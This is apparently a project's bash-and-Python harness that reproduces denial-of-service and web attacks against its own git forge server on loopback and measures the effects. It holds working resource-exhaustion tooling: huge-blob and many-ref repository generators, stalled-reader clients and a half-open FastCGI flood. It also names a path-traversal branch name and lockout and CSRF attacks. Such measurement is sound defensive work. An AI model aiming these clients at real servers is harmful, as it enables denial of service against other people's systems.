#!/usr/bin/env bash
# attacks.sh: reproduces the attacks of issue 8 against a forgelet binary behind the shipped nginx
# snippet, on loopback, and prints one line per figure and a markdown table of them all. A
# measurement, not a test: it exits 0 whenever the measurements ran, whatever the figures, and
# non-zero only when the setup failed. Run it against the old binary and the new one on the same
# machine to compare.
#
#   deploy/attacks.sh [--bin PATH] [--snippet PATH] [--only NAME[,NAME...]] [--keep] [--long]
#
#   --bin PATH   the forgelet binary (default: target/release/forgelet; nothing is built)
#   --snippet PATH  the nginx snippet to run it behind (default: nginx/forgelet.conf of this
#                checkout); give an old binary the snippet shipped with it, e.g.
#                `git show OLD:nginx/forgelet.conf > /tmp/old.conf`, since the snippet's caps
#                are part of what is measured (attack body)
#   --only LIST  run only these attacks: blob diff refs stall filter body csrf lockout names purge
#                reflink (comma separated; default: all)
#   --keep       keep the run folder (configs, logs, response bodies) after a successful run
#   --long       also wait (up to 330 s) for forgelet to close 520 FastCGI connections stuck in
#                PARAMS (attack "body"); skipped by default
#
# The attacks (issue 8, points 1 to 11), as an outsider (no account) or an ordinary account holder
# (mallory); alice is the victim:
#   blob     mallory/big: 120 small files and a 1 GiB README.md of zeros (a ~1 MB pack). One
#            anonymous view of the home page; four at once (home, blob, raw, tree); the .tar.gz
#   diff     mallory/diff: a 60 MB text file of 30 million short lines and a commit changing one
#            line of it: its commit page once, then twice at once
#   refs     home page requests/second of a repository with 12,001 packed refs; the front page's
#            latency idle and while 24 clients loop on the dumb info/refs of one with 7,800
#            loose branches
#   stall    clients that POST a v2 fetch, read the response headers and stop reading: clone,
#            fetch, push, ls-remote beside 4 of them; 37 of them; 40 from 127.0.0.2..41 beside a
#            clone, push and ls-remote; two stalled snapshot downloads beside a third
#   filter   a v2 fetch with `filter sparse:oid=<a 60 MB blob>`
#   body     a 300 MB POST to /login (nginx's spooled body measured); 520 FastCGI connections
#            stuck in PARAMS beside a normal page view
#   csrf     a (cookie, token) pair from GET /login planted beside alice's session cookie
#   lockout  alice signs in once; 61 s later ~25 wrong passwords for her from other addresses,
#            then one every 3 s, while alice signs in again on the web and with git
#   names    mallory adds a collaborator named alice, then one that does not exist
#   purge    a force-pushed-away commit read by id, before and after `forgelet repo purge`
#   reflink  a branch named q/%2e%2e/%2e%2e/%2e%2e/logout#: where the home's .tar.gz link goes
#
# Memory: forgelet is restarted before each attack (and before each memory figure), so VmHWM is
# that figure's own; VmRSS of forgelet, and the summed VmRSS of its descendants (the git it runs),
# are sampled every 20 ms. Every wait is capped (curl --max-time, timeout(1), the helper's own
# deadlines), so a slow binary makes slow figures, never a hang.
#
# Everything runs in target/attacks/run.XXXXXX (removed after a successful run unless --keep);
# the generated repositories are cached in target/attacks/ (deterministic: fixed names, dates and
# generators; regenerated when a generator changes). Needs nginx, git, curl, perl and python3
# (stdlib only); wrk is used for requests/second when installed (else a Python client).
set -euo pipefail

script_dir=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
root=$(cd "$script_dir/.." && pwd)
target_dir=${CARGO_TARGET_DIR:-$root/target}
case $target_dir in /*) ;; *) target_dir=$root/$target_dir ;; esac
cache=$target_dir/attacks

die() {
    printf 'attacks.sh: %s\n' "$*" >&2
    exit 1
}
say() {
    printf '== %s\n' "$*"
}

all_attacks=(blob diff refs stall filter body csrf lockout names purge reflink)
bin=
snippet=
only=
keep=0
long=0
while [ $# -gt 0 ]; do
    case $1 in
        --bin) [ $# -ge 2 ] || die "--bin needs a path"; bin=$2; shift 2 ;;
        --bin=*) bin=${1#--bin=}; shift ;;
        --snippet) [ $# -ge 2 ] || die "--snippet needs a path"; snippet=$2; shift 2 ;;
        --snippet=*) snippet=${1#--snippet=}; shift ;;
        --only) [ $# -ge 2 ] || die "--only needs a list"; only=$2; shift 2 ;;
        --only=*) only=${1#--only=}; shift ;;
        --keep) keep=1; shift ;;
        --long) long=1; shift ;;
        -h | --help) sed -n '2,/^set -euo/p' "${BASH_SOURCE[0]}" | sed -e '$d' -e 's/^# \{0,1\}//'; exit 0 ;;
        *) die "unknown argument '$1' (see --help)" ;;
    esac
done
[ -n "$bin" ] || bin=$target_dir/release/forgelet
[ -x "$bin" ] || die "no forgelet binary at $bin (give --bin PATH; this script builds nothing)"
bin=$(cd "$(dirname "$bin")" && pwd)/$(basename "$bin")
[ -n "$snippet" ] || snippet=$root/nginx/forgelet.conf
[ -f "$snippet" ] || die "no nginx snippet at $snippet"
declare -A selected=()
if [ -z "$only" ]; then
    for a in "${all_attacks[@]}"; do selected[$a]=1; done
else
    IFS=, read -r -a picked <<<"$only"
    for a in "${picked[@]}"; do
        case " ${all_attacks[*]} " in
            *" $a "*) selected[$a]=1 ;;
            *) die "unknown attack '$a' in --only (known: ${all_attacks[*]})" ;;
        esac
    done
fi
want() {
    local a
    for a in "$@"; do
        [ -n "${selected[$a]:-}" ] && return 0
    done
    return 1
}

# git never reads the user's or the system's settings; commits made here have fixed identities
# and dates, so every run makes the same objects.
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 GIT_TERMINAL_PROMPT=0
export GIT_AUTHOR_NAME='Attack Author' GIT_AUTHOR_EMAIL=author@attacks.invalid
export GIT_COMMITTER_NAME='Attack Committer' GIT_COMMITTER_EMAIL=committer@attacks.invalid
export GIT_AUTHOR_DATE='1710000000 +0000' GIT_COMMITTER_DATE='1710000000 +0000' LC_ALL=C
unset GIT_DIR GIT_WORK_TREE GIT_OBJECT_DIRECTORY GIT_ALTERNATE_OBJECT_DIRECTORIES GIT_PROTOCOL
unset GIT_TRACE GIT_TRACE_CURL GIT_TRACE_PACKET GIT_CURL_VERBOSE GIT_SMART_HTTP GIT_ASKPASS SSH_ASKPASS
unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY
export no_proxy='*' NO_PROXY='*'

# --- tools ---------------------------------------------------------------------------------------
# shellcheck source=deploy/lib.sh
. "$script_dir/lib.sh"
install_nginx_and_git || die "nginx and git are needed (see above)"
nginx_bin=$(find_nginx)
if [ -z "$nginx_bin" ] || [ ! -x "$nginx_bin" ]; then die "nginx not found; install it or set NGINX_BIN"; fi
for tool in git curl perl timeout; do
    command -v "$tool" >/dev/null 2>&1 || die "$tool not found"
done
perl -MConfig -e 'exit($Config{uvsize} >= 8 ? 0 : 1)' || die "perl with 64-bit integers needed"
python=
for py in /usr/bin/python3 python3; do
    if command -v "$py" >/dev/null 2>&1 && "$py" -c 'import sys; sys.exit(sys.version_info < (3, 6))'; then
        python=$(command -v "$py")
        break
    fi
done
[ -n "$python" ] || die "python3 (3.6 or newer) not found"
have_wrk=0
command -v wrk >/dev/null 2>&1 && have_wrk=1
fastcgi_params=/etc/nginx/fastcgi_params
[ -f "$fastcgi_params" ] || fastcgi_params=$(dirname "$nginx_bin")/../conf/fastcgi_params
[ -f "$fastcgi_params" ] || die "cannot find nginx's fastcgi_params"
# The source addresses 127.0.0.2 and up must be usable (Linux routes all of 127/8 to lo).
"$python" -c 'import socket; s = socket.socket(); s.bind(("127.0.0.41", 0)); s.close()' 2>/dev/null ||
    die "cannot bind to 127.0.0.41 (the attacks need source addresses 127.0.0.2 to 127.0.0.130)"

# --- repositories (cached in target/attacks/) ----------------------------------------------------
# Each generator fills the empty bare repository $1 (HEAD -> main) from a fast-import stream; the
# cache is keyed by the generator's own text, so changing it regenerates.

# base: 5 small commits (README.md, src/main.c, docs/guide.md); the repositories alice and mallory
# use for sign-in, settings, pushes and the like.
gen_base() {
    perl - <<'PERL' | git -C "$1" fast-import --quiet
use strict;
use warnings;
my $t = 1700000000;
sub data { my $d = shift; return 'data ' . length($d) . "\n$d\n"; }
for my $i (1 .. 5) {
    $t += 3600;
    my $id = "Base Author <base\@attacks.invalid> $t +0000";
    print "commit refs/heads/main\nmark :$i\nauthor $id\ncommitter $id\n", data("Step $i\n");
    print "M 100644 inline README.md\n", data("# base\n\nA small repository, version $i.\n");
    print "M 100644 inline src/main.c\n",
        data("#include <stdio.h>\nint main(void) { printf(\"v$i\\n\"); return 0; }\n");
    print "M 100644 inline docs/guide.md\n", data(join('', map { "Guide line $_ of step $i.\n" } 1 .. 20));
}
PERL
}

# big (attack blob): one commit of 120 small files and README.md = 1 GiB of zeros, streamed (above
# fast-import's big-file threshold the blob is deflated as it comes: a pack of about 1 MB).
gen_big() {
    perl - <<'PERL' | git -C "$1" fast-import --quiet
use strict;
use warnings;
binmode STDOUT;
my $t = 1700000000;
my $id = "Mallory <mallory\@attacks.invalid> $t +0000";
my $msg = "Add the files\n";
print "commit refs/heads/main\nmark :1\nauthor $id\ncommitter $id\ndata ", length($msg), "\n$msg";
for my $i (1 .. 120) {
    my $d = "Small file $i.\n";
    printf "M 100644 inline files/f%03d.txt\ndata %d\n%s\n", $i, length($d), $d;
}
my $mib = "\0" x 1048576;
print "M 100644 inline README.md\ndata ", 1024 * 1048576, "\n";
print $mib for 1 .. 1024;
print "\n";
PERL
}

# diff (attacks diff and filter): big.txt, 30 million lines "a" (60 MB, deflated to about 60 KB),
# then a commit changing the line in its middle to "b".
gen_diff() {
    perl - <<'PERL' | git -C "$1" fast-import --quiet
use strict;
use warnings;
binmode STDOUT;
my $lines = 30_000_000;
my $text = "a\n" x $lines;
my $changed = $text;
substr($changed, 2 * ($lines / 2), 2) = "b\n";
my $t = 1700000000;
sub data { my $d = shift; return 'data ' . length($d) . "\n$d\n"; }
for my $c ([1, "Add big.txt\n", $text], [2, "Change one line of big.txt\n", $changed]) {
    my ($mark, $msg, $body) = @$c;
    $t += 3600;
    my $id = "Mallory <mallory\@attacks.invalid> $t +0000";
    print "commit refs/heads/main\nmark :$mark\nauthor $id\ncommitter $id\n", data($msg);
    print "M 100644 inline README.md\n", data("# diff\n") if $mark == 1;
    print "M 100644 inline big.txt\n", data($body);
}
PERL
    git -C "$1" repack -a -d -q
}

# refs12k (attack refs): 20 commits on main, then 6,000 branches and 6,000 tags, all packed.
gen_refs12k() {
    gen_refs_base "$1"
    git -C "$1" rev-list main >"$1/commits.tmp"
    awk 'BEGIN { while ((getline c < ARGV[1]) > 0) id[n++] = c; ARGV[1] = "" }
        END {
            for (i = 1; i <= 6000; i++) printf "create refs/heads/branch-%05d %s\n", i, id[i % n]
            for (i = 1; i <= 6000; i++) printf "create refs/tags/tag-%05d %s\n", i, id[(i * 7) % n]
        }' "$1/commits.tmp" | git -C "$1" update-ref --stdin
    rm -f "$1/commits.tmp"
    git -C "$1" pack-refs --all
}

# refs7800 (attack refs): the same 20 commits, 7,800 branches left as loose ref files.
gen_refs7800() {
    gen_refs_base "$1"
    git -C "$1" rev-list main >"$1/commits.tmp"
    awk 'BEGIN { while ((getline c < ARGV[1]) > 0) id[n++] = c; ARGV[1] = "" }
        END { for (i = 1; i <= 7800; i++) printf "create refs/heads/branch-%05d %s\n", i, id[i % n] }' \
        "$1/commits.tmp" | git -C "$1" update-ref --stdin
    rm -f "$1/commits.tmp" "$1/packed-refs"
}
gen_refs_base() {
    perl - <<'PERL' | git -C "$1" fast-import --quiet
use strict;
use warnings;
my $t = 1700000000;
sub data { my $d = shift; return 'data ' . length($d) . "\n$d\n"; }
for my $i (1 .. 20) {
    $t += 3600;
    my $id = "Mallory <mallory\@attacks.invalid> $t +0000";
    print "commit refs/heads/main\nmark :$i\nauthor $id\ncommitter $id\n", data("Commit $i\n");
    print "M 100644 inline README.md\n", data("# refs\n\nCommit $i.\n");
}
PERL
}

# stall (attack stall): 300 commits editing 30 text files, every 10th also writing a 400 KB
# binary of seeded xorshift64 bytes (incompressible), 30 of them: about 13 MB packed.
gen_stall() {
    perl - <<'PERL' | git -C "$1" fast-import --quiet
use strict;
use warnings;
no warnings 'portable';
binmode STDOUT;
my $x = 0x9E3779B97F4A7C15;
sub words {
    my $k = shift;
    my @w;
    for (1 .. $k) { $x ^= $x << 13; $x ^= $x >> 7; $x ^= $x << 17; push @w, $x; }
    return @w;
}
sub below { my ($n) = words(1); return $n % $_[0]; }
sub bytes { my $n = shift; return substr(pack('Q<*', words(($n + 7) >> 3)), 0, $n); }
sub line {
    my $s = bytes(50);
    $s =~ tr/\x00-\xff/A-Za-z0-9_.A-Za-z0-9_.A-Za-z0-9_.A-Za-z0-9_./;
    return "$s\n";
}
sub data { my $d = shift; return 'data ' . length($d) . "\n$d\n"; }
my @text = map { [map { line() } 1 .. 40] } 0 .. 29;
my $t = 1700000000;
for my $i (1 .. 300) {
    $t += 3600;
    my $id = "Alice <alice\@attacks.invalid> $t +0000";
    print "commit refs/heads/main\nmark :$i\nauthor $id\ncommitter $id\n", data("Commit $i\n");
    my @files = $i == 1 ? (0 .. 29) : (below(30), below(30));
    for my $f (@files) {
        my $l = $text[$f];
        $l->[below(scalar @$l)] = line() for 1 .. 3;
        push @$l, line();
        print "M 100644 inline src/file$f.txt\n", data(join('', @$l));
    }
    printf "M 100644 inline assets/blob-%02d.bin\n%s", $i / 10, data(bytes(409600)) if $i % 10 == 0;
}
PERL
    git -C "$1" repack -a -d -q
}

# cached_repo NAME GENERATOR: prints the path of the cached repository, generating it first when
# missing or made by another version of the generator.
cached_repo() {
    local name=$1 gen=$2 dest stamp version start
    dest=$cache/$name.git
    stamp=$cache/$name.stamp
    version="$(declare -f "$gen" gen_refs_base | cksum | cut -d' ' -f1)"
    if [ -f "$stamp" ] && [ "$(cat "$stamp")" = "$version" ] && [ -d "$dest" ]; then
        say "reusing $dest" >&2
    else
        say "generating $dest" >&2
        start=$(date +%s.%N)
        rm -rf "$dest" "$dest.tmp" "$stamp"
        git init -q --bare "$dest.tmp"
        git -C "$dest.tmp" symbolic-ref HEAD refs/heads/main
        "$gen" "$dest.tmp" >&2 || die "generating $name failed"
        mv "$dest.tmp" "$dest"
        printf '%s\n' "$version" >"$stamp"
        awk -v a="$start" -v b="$(date +%s.%N)" 'BEGIN { printf "generated in %.1f s\n", b - a }' >&2
    fi
    printf '%s\n' "$dest"
}
mkdir -p "$cache"
repo_base=$(cached_repo base gen_base)
repo_big='' repo_diff='' repo_refs12k='' repo_refs7800='' repo_stall=''
if want blob; then repo_big=$(cached_repo big gen_big); fi
if want diff filter; then repo_diff=$(cached_repo diff gen_diff); fi
if want refs; then
    repo_refs12k=$(cached_repo refs12k gen_refs12k)
    repo_refs7800=$(cached_repo refs7800 gen_refs7800)
fi
if want stall; then repo_stall=$(cached_repo stall gen_stall); fi
for r in "$repo_base" "$repo_big" "$repo_diff" "$repo_refs12k" "$repo_refs7800" "$repo_stall"; do
    [ -n "$r" ] || continue
    printf '  %-8s %6s refs, %7.1f MiB on disk, main = %s\n' "$(basename "$r" .git)" \
        "$(git -C "$r" for-each-ref | wc -l)" "$(du -sk "$r" | awk '{ print $1 / 1024 }')" \
        "$(git -C "$r" rev-parse main)"
done

# --- the run folder, nginx and forgelet ----------------------------------------------------------
run=$(mktemp -d "$cache/run.XXXXXX")
nginx_pid=
forgelet_pid=
bg_pids=()
ok=0
interrupted=0
stop() {
    local pid=$1 i
    [ -n "$pid" ] || return 0
    kill -TERM "$pid" 2>/dev/null || return 0
    for ((i = 0; i < 50; i++)); do
        kill -0 "$pid" 2>/dev/null || break
        sleep 0.1
    done
    kill -KILL "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
}
cleanup() {
    local pid
    for pid in "${bg_pids[@]}"; do stop "$pid"; done
    stop "$nginx_pid"
    stop "$forgelet_pid"
    if { [ "$ok" = 1 ] || [ "$interrupted" = 1 ]; } && [ "$keep" != 1 ]; then
        rm -rf "$run"
    else
        printf 'attacks.sh: run folder kept: %s (nginx/error.log, nginx/access.log, forgelet.log, out/)\n' "$run" >&2
    fi
}
trap cleanup EXIT
trap 'interrupted=1; exit 130' INT
trap 'interrupted=1; exit 143' TERM

mkdir -p "$run/nginx/temp" "$run/data" "$run/out" "$run/work" "$run/empty-root"
case $run in *[\|\&\\\"\;\ \$\{\}\']*) die "the run folder $run has a character nginx or sed would misread" ;; esac
helper=$run/helper.py
cat >"$helper" <<'PY'
"""attacks.sh's helper: clients and samplers that need sockets, threads or a steady clock.

Subcommands (each prints one result line on stdout; every wait is capped):
  sample PID OUT [--dir DIR --dir-pid P]
                               VmRSS of PID and the summed VmRSS of its descendants every 20 ms
                               (and the bytes in DIR, counting files there that P or its
                               descendants hold open after unlinking them); on SIGTERM writes
                               "PEAK_KIB KIDS_PEAK_KIB DIR_PEAK_BYTES SAMPLES" to OUT
  stall ...                    clients that send a request, read the response headers and then
                               stop reading while keeping the socket open
  v2fetch ...                  one whole protocol-v2 fetch; "STATUS BYTES SECONDS RESULT"
  latency ...                  sequential GETs; "N P50 P99 MAX STATUSES"
  load ...                     concurrent GET loops until SIGTERM; "REQUESTS OK SECONDS"
  halfopen ...                 FastCGI connections stuck in the middle of a PARAMS record
"""
import argparse
import os
import select
import signal
import socket
import struct
import threading
import time

stop_flag = False


def on_term(_sig, _frame):
    global stop_flag
    stop_flag = True


def atomic_write(path, text):
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        f.write(text)
    os.rename(tmp, path)


# --- sampler -------------------------------------------------------------------------------------
PAGE_KIB = os.sysconf("SC_PAGE_SIZE") // 1024


def rss_kib(pid):
    try:
        with open("/proc/%d/statm" % pid) as f:
            return int(f.read().split()[1]) * PAGE_KIB
    except (OSError, ValueError, IndexError):
        return 0


def parents():
    kids = {}
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % name) as f:
                line = f.read()
        except OSError:
            continue
        rest = line[line.rfind(")") + 2:].split()
        if len(rest) > 1:
            kids.setdefault(int(rest[1]), []).append(int(name))
    return kids


def descendants(pid):
    kids = parents()
    out, todo = [], list(kids.get(pid, []))
    while todo:
        p = todo.pop()
        out.append(p)
        todo.extend(kids.get(p, []))
    return out


def dir_bytes(path):
    total = 0
    for root, _dirs, files in os.walk(path):
        for f in files:
            try:
                total += os.lstat(os.path.join(root, f)).st_size
            except OSError:
                pass
    return total


def open_bytes(pids, prefix):
    """Bytes in the files under prefix that pids hold open (nginx unlinks its temp files at once)."""
    total = 0
    for pid in pids:
        fds = "/proc/%d/fd" % pid
        try:
            names = os.listdir(fds)
        except OSError:
            continue
        for name in names:
            try:
                if os.readlink(os.path.join(fds, name)).startswith(prefix):
                    total += os.stat(os.path.join(fds, name)).st_size
            except OSError:
                pass
    return total


def cmd_sample(a):
    signal.signal(signal.SIGTERM, on_term)
    peak = kids_peak = dir_peak = n = 0
    prefix = os.path.join(a.dir, "") if a.dir else None
    while not stop_flag and os.path.exists("/proc/%d" % a.pid):
        peak = max(peak, rss_kib(a.pid))
        kids_peak = max(kids_peak, sum(rss_kib(p) for p in descendants(a.pid)))
        if a.dir:
            held = [a.dir_pid] + descendants(a.dir_pid) if a.dir_pid else []
            dir_peak = max(dir_peak, dir_bytes(a.dir) + open_bytes(held, prefix))
        n += 1
        time.sleep(0.02)
    atomic_write(a.out, "%d %d %d %d\n" % (peak, kids_peak, dir_peak, n))


# --- HTTP over raw sockets -----------------------------------------------------------------------
def pkt(s):
    b = s.encode() if isinstance(s, str) else s
    return b"%04x" % (len(b) + 4) + b


def v2_fetch_body(want, filt=None):
    body = pkt("command=fetch\n") + pkt("agent=git/attacks.sh\n") + pkt("object-format=sha1\n")
    body += b"0001" + pkt("ofs-delta\n") + pkt("no-progress\n") + pkt("want %s\n" % want)
    if filt:
        body += pkt("filter %s\n" % filt)
    return body + pkt("done\n") + b"0000"


def connect(port, src=None, rcvbuf=None, timeout=30.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    if src:
        s.bind((src, 0))
    s.settimeout(timeout)
    s.connect(("127.0.0.1", port))
    return s


def request_bytes(method, path, headers=(), body=b""):
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: 127.0.0.1", "Connection: close",
             "User-Agent: git/attacks.sh"]
    lines += list(headers)
    if method == "POST":
        lines.append("Content-Length: %d" % len(body))
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def status_of(head):
    try:
        return int(head.split(b"\r\n", 1)[0].split()[1])
    except (IndexError, ValueError):
        return 0


def exchange(port, method, path, headers=(), body=b"", src=None, timeout=30.0):
    """A whole request. Returns (status, the first 64 KiB or so of the body, seconds, bytes
    received, complete); status 0 when no response headers came, complete False on a timeout or
    an error before the end."""
    start = time.monotonic()
    deadline = start + timeout
    data, total, complete = b"", 0, False
    try:
        s = connect(port, src=src, timeout=timeout)
        s.sendall(request_bytes(method, path, headers, body))
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                raise socket.timeout()
            s.settimeout(left)
            chunk = s.recv(262144)
            if not chunk:
                complete = True
                break
            total += len(chunk)
            if len(data) < 65536:
                data += chunk
        s.close()
    except OSError:
        pass
    head, sep, rest = data.partition(b"\r\n\r\n")
    st = status_of(head) if sep and head.startswith(b"HTTP/") else 0
    return st, rest, time.monotonic() - start, max(0, total - len(head) - len(sep)), complete


UPLOAD_HEADERS = ("Content-Type: application/x-git-upload-pack-request",
                  "Accept: application/x-git-upload-pack-result",
                  "Git-Protocol: version=2")


def advertise(port, repo_path, src=None, timeout=30.0):
    return exchange(port, "GET", repo_path + "/info/refs?service=git-upload-pack",
                    ("Git-Protocol: version=2",), src=src, timeout=timeout)[0]


def cmd_v2fetch(a):
    start = time.monotonic()
    adv = advertise(a.port, a.repo, timeout=a.timeout)
    left = max(1.0, a.timeout - (time.monotonic() - start))
    # The body keeps its chunked framing: it is only searched for markers.
    st, body, _t, nbytes, complete = exchange(a.port, "POST", a.repo + "/git-upload-pack",
                                              UPLOAD_HEADERS, v2_fetch_body(a.want, a.filter),
                                              timeout=left)
    secs = time.monotonic() - start
    if not complete:
        result = "timed-out-or-cut-off"
    elif b"packfile\n" in body:
        result = "packfile"
    elif b"ERR " in body:
        msg = body[body.find(b"ERR ") + 4:].split(b"\n", 1)[0][:120]
        result = "ERR:" + msg.decode("utf-8", "replace").replace(" ", "_")
    elif st != 200 and body.strip():
        first = body.strip().split(b"\n", 1)[0][:80].decode("utf-8", "replace")
        result = "answer:" + "_".join(first.split())
    else:
        result = "no-packfile"
    print("%d %d %.3f %s adv=%d" % (st, nbytes, secs, result, adv))


# --- stalled readers -----------------------------------------------------------------------------
def cmd_stall(a):
    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    srcs = ["127.0.0.%d" % (a.src_first + i) if a.src_first else None for i in range(a.count)]
    # First each client's ref advertisement, as git asks for it (all of them before any POST, so
    # that the POSTs reach the server in order and none waits behind another's advertisement).
    adv = []
    adv_deadline = time.monotonic() + 30.0
    for src in srcs:
        left = adv_deadline - time.monotonic()
        if a.kind != "fetch" or stop_flag or left <= 0:
            adv.append("skipped")
            continue
        adv.append(str(advertise(a.port, a.repo, src=src, timeout=min(5.0, left)) or "none"))
    socks, bufs, status = [], [], []
    for src in srcs:
        if stop_flag:
            break
        try:
            if a.kind == "fetch":
                req = request_bytes("POST", a.repo + "/git-upload-pack", UPLOAD_HEADERS,
                                    v2_fetch_body(a.want))
            else:
                req = request_bytes("GET", a.url)
            s = connect(a.port, src=src, rcvbuf=a.rcvbuf, timeout=10.0)
            s.sendall(req)
            s.setblocking(False)
            socks.append(s)
            status.append(None)
        except OSError as e:
            socks.append(None)
            status.append("connect-error:%s" % e.__class__.__name__)
        bufs.append(b"")
        time.sleep(a.gap)
    # Read each response's headers (only), all at once, for at most header_wait seconds.
    deadline = time.monotonic() + a.header_wait
    while not stop_flag:
        waiting = [s for s, st in zip(socks, status) if s is not None and st is None]
        left = deadline - time.monotonic()
        if not waiting or left <= 0:
            break
        readable, _, _ = select.select(waiting, [], [], min(left, 0.2))
        for s in readable:
            k = socks.index(s)
            try:
                chunk = s.recv(1024)
            except OSError:
                chunk = b""
            if not chunk:
                status[k] = "closed"
                continue
            bufs[k] += chunk
            if b"\r\n\r\n" in bufs[k]:
                status[k] = str(status_of(bufs[k]))
    shown = [st if st is not None else "none" for st in status]
    atomic_write(a.ready, " ".join(shown) + "\n" + " ".join(adv) + "\n")
    end = time.monotonic() + a.hold
    while not stop_flag and time.monotonic() < end:
        time.sleep(0.1)
    for s in socks:
        if s is not None:
            s.close()


# --- latency and load ----------------------------------------------------------------------------
def pct(values, p):
    v = sorted(values)
    if not v:
        return float("nan")
    k = min(len(v) - 1, max(0, int(round(p / 100.0 * len(v) + 0.5)) - 1))
    return v[k]


def cmd_latency(a):
    times, codes = [], {}
    start = time.monotonic()
    for _ in range(a.n):
        if time.monotonic() - start > a.cap:
            break
        st, _b, t, _n, _c = exchange(a.port, "GET", a.path, timeout=a.timeout)
        times.append(t)
        codes[st] = codes.get(st, 0) + 1
    shown = ",".join("%dx%d" % (n, c) for c, n in sorted(codes.items()))
    print("%d %.4f %.4f %.4f %s" % (len(times), pct(times, 50), pct(times, 99),
                                   max(times) if times else float("nan"), shown))


def cmd_load(a):
    signal.signal(signal.SIGTERM, on_term)
    counts = {"n": 0, "ok": 0}
    lock = threading.Lock()

    def loop():
        while not stop_flag:
            st, _b, _t, _n, _c = exchange(a.port, "GET", a.path, timeout=a.timeout)
            with lock:
                counts["n"] += 1
                counts["ok"] += st == 200
    start = time.monotonic()
    for _ in range(a.conc):
        threading.Thread(target=loop, daemon=True).start()
    while not stop_flag and time.monotonic() - start < a.cap:
        time.sleep(0.05)
    with lock:
        line = "%d %d %.2f\n" % (counts["n"], counts["ok"], time.monotonic() - start)
    atomic_write(a.out, line)
    os._exit(0)


# --- FastCGI connections stuck in PARAMS ---------------------------------------------------------
def cmd_halfopen(a):
    signal.signal(signal.SIGTERM, on_term)
    begin = struct.pack(">BBHHBB", 1, 1, 1, 8, 0, 0) + struct.pack(">HB5x", 1, 0)
    params_len = 200
    params_head = struct.pack(">BBHHBB", 1, 4, 1, params_len, 0, 0)
    half = (b"\x0b\x09REMOTE_ADDR127.0.0.1" * 10)[:params_len // 2]
    socks, failed, opened_at = [], 0, {}
    t0 = time.monotonic()
    for _ in range(a.count):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2.0)
        try:
            s.connect(a.socket)
            s.sendall(begin + params_head + half)
            socks.append(s)
            opened_at[s.fileno()] = time.monotonic()
        except OSError:
            failed += 1
            s.close()
    opened = time.monotonic()
    atomic_write(a.ready, "%d %d %.2f\n" % (len(socks), failed, opened - t0))
    if not a.watch:
        while not stop_flag and time.monotonic() - opened < a.cap:
            time.sleep(0.1)
        return
    open_socks = {s.fileno(): s for s in socks}
    closed_at = []
    while open_socks and not stop_flag:
        left = a.cap - (time.monotonic() - opened)
        if left <= 0:
            break
        readable, _, _ = select.select(list(open_socks.values()), [], [], min(left, 1.0))
        for s in readable:
            try:
                chunk = s.recv(4096)
            except OSError:
                chunk = b""
            if not chunk:
                closed_at.append(time.monotonic() - opened_at[s.fileno()])
                del open_socks[s.fileno()]
                s.close()
    # How long each connection stayed open after it sent its half record: the shortest and the
    # longest.
    if closed_at:
        print("%d %d %.1f %.1f" % (len(socks), len(closed_at), min(closed_at), max(closed_at)))
    else:
        print("%d 0 - -" % len(socks))


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("sample")
    s.add_argument("pid", type=int)
    s.add_argument("out")
    s.add_argument("--dir")
    s.add_argument("--dir-pid", type=int, default=0)
    s = sub.add_parser("v2fetch")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--repo", required=True)
    s.add_argument("--want", required=True)
    s.add_argument("--filter")
    s.add_argument("--timeout", type=float, default=120.0)
    s = sub.add_parser("stall")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--kind", choices=["fetch", "get"], default="fetch")
    s.add_argument("--repo")
    s.add_argument("--want")
    s.add_argument("--url")
    s.add_argument("--count", type=int, required=True)
    s.add_argument("--src-first", type=int, default=0)
    s.add_argument("--rcvbuf", type=int, default=2048)
    s.add_argument("--gap", type=float, default=0.05)
    s.add_argument("--header-wait", type=float, default=10.0)
    s.add_argument("--hold", type=float, default=400.0)
    s.add_argument("--ready", required=True)
    s = sub.add_parser("latency")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--path", required=True)
    s.add_argument("--n", type=int, default=100)
    s.add_argument("--cap", type=float, default=60.0)
    s.add_argument("--timeout", type=float, default=30.0)
    s = sub.add_parser("load")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--path", required=True)
    s.add_argument("--conc", type=int, default=24)
    s.add_argument("--timeout", type=float, default=60.0)
    s.add_argument("--cap", type=float, default=300.0)
    s.add_argument("--out", required=True)
    s = sub.add_parser("halfopen")
    s.add_argument("--socket", required=True)
    s.add_argument("--count", type=int, default=520)
    s.add_argument("--ready", required=True)
    s.add_argument("--watch", action="store_true")
    s.add_argument("--cap", type=float, default=330.0)
    a = p.parse_args()
    globals()["cmd_" + a.cmd](a)


if __name__ == "__main__":
    main()
PY

port_in_use() {
    (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null
}
wait_until() {
    local what=$1 pid=$2 i
    shift 2
    for ((i = 0; i < 100; i++)); do
        "$@" && return 0
        kill -0 "$pid" 2>/dev/null || return 1
        sleep 0.1
    done
    die "$what: no success within 10 s"
}

socket=$run/forgelet.sock
config=$run/config.toml
write_config() {
    cat >"$config" <<EOF2
data_dir = "$run/data"
base_url = "http://127.0.0.1:$1/git"
sendfile = "x-accel-redirect"

[server]
listen = "unix:$socket"
EOF2
}
write_config 0
admin() {
    "$bin" --config "$config" "$@"
}
random_password() {
    head -c 48 /dev/urandom | base64 -w 0 | tr -dc 'A-Za-z0-9' | head -c 24
}
alice_pw=$(random_password)
mallory_pw=$(random_password)
